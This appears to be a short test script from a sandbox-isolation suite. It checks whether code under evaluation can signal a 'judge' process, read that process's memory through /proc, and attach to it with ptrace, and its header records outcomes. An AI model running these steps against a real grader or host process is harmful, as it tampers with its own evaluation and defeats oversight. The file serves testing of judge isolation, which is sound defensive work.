# /// attack
# title = "signals to the judge, its parent, everybody"
# earned = [3, 1]
# status = ["graded", "crashed"]
# [C.same_user]
# escapes = ["C"]
# ///
# %%
import ctypes
import os

attempt("signalled the judge", lambda: os.kill(JUDGE, 0) is None)
attempt("read the judge's memory", lambda: open(f"/proc/{JUDGE}/mem", "rb"))
libc = ctypes.CDLL(None)
attempt("traced the judge", lambda: libc.ptrace(0x4206, JUDGE, 0, 0) == 0)
